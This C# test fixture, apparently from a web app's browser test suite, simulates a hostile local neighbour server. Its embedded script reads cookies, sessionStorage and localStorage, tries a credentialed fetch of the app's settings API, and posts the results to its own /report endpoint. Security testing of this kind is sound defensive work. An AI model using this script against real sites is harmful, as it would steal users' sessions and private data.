using System.Collections.Concurrent;
using System.Net.Sockets;
using System.Text;
using Ferry.Testing.Support;

namespace Ferry.Web.Tests.Browser;

/// <summary>
/// Another local user's web server on another port of 127.0.0.1: it writes down every request the
/// browser sends it (headers included) and serves a page whose script reports what it can see from
/// there (cookies, storage) and tries to use Ferry's API.
/// </summary>
public sealed class NeighbourServer : LoopbackServer
{
    private readonly int _ferryPort;

    public NeighbourServer(int ferryPort)
    {
        _ferryPort = ferryPort;
        Start();
    }

    public string Url => $"http://127.0.0.1:{Port}/";

    /// <summary>Every request's head (request line and headers) as the browser sent it.</summary>
    public ConcurrentQueue<string> Requests { get; } = new();

    private string Page => $$"""
        <!doctype html><meta charset="utf-8"><title>neighbour</title>
        <script>
        (async () => {
          let api = "";
          try {
            const r = await fetch("http://127.0.0.1:{{_ferryPort}}/api/settings", { credentials: "include" });
            api = "status " + r.status + " " + await r.text();
          } catch (e) { api = "failed " + e; }
          const seen = "cookie=" + document.cookie + ";session=" + JSON.stringify(sessionStorage) + ";local=" + JSON.stringify(localStorage) + ";api=" + api;
          await fetch("/report", { method: "POST", body: seen });
          document.title = "reported";
        })();
        </script>
        """;

    protected override Task ServeAsync(TcpClient client) => ServeAsync(client.GetStream());

    private async Task ServeAsync(NetworkStream stream)
    {
        var reader = new StreamReader(stream, Encoding.ASCII);
        var head = new StringBuilder();
        var length = 0;
        for (var line = await reader.ReadLineAsync(Stopping); !string.IsNullOrEmpty(line); line = await reader.ReadLineAsync(Stopping))
        {
            head.AppendLine(line);
            if (line.StartsWith("Content-Length:", StringComparison.OrdinalIgnoreCase))
            {
                length = int.Parse(line["Content-Length:".Length..].Trim(), System.Globalization.CultureInfo.InvariantCulture);
            }
        }

        var body = new char[length];
        if (length > 0)
        {
            await reader.ReadBlockAsync(body, Stopping);
        }

        Requests.Enqueue(head + new string(body));
        var html = Encoding.UTF8.GetBytes(Page);
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {html.Length}\r\nConnection: close\r\n\r\n"), Stopping);
        await stream.WriteAsync(html, Stopping);
    }
}
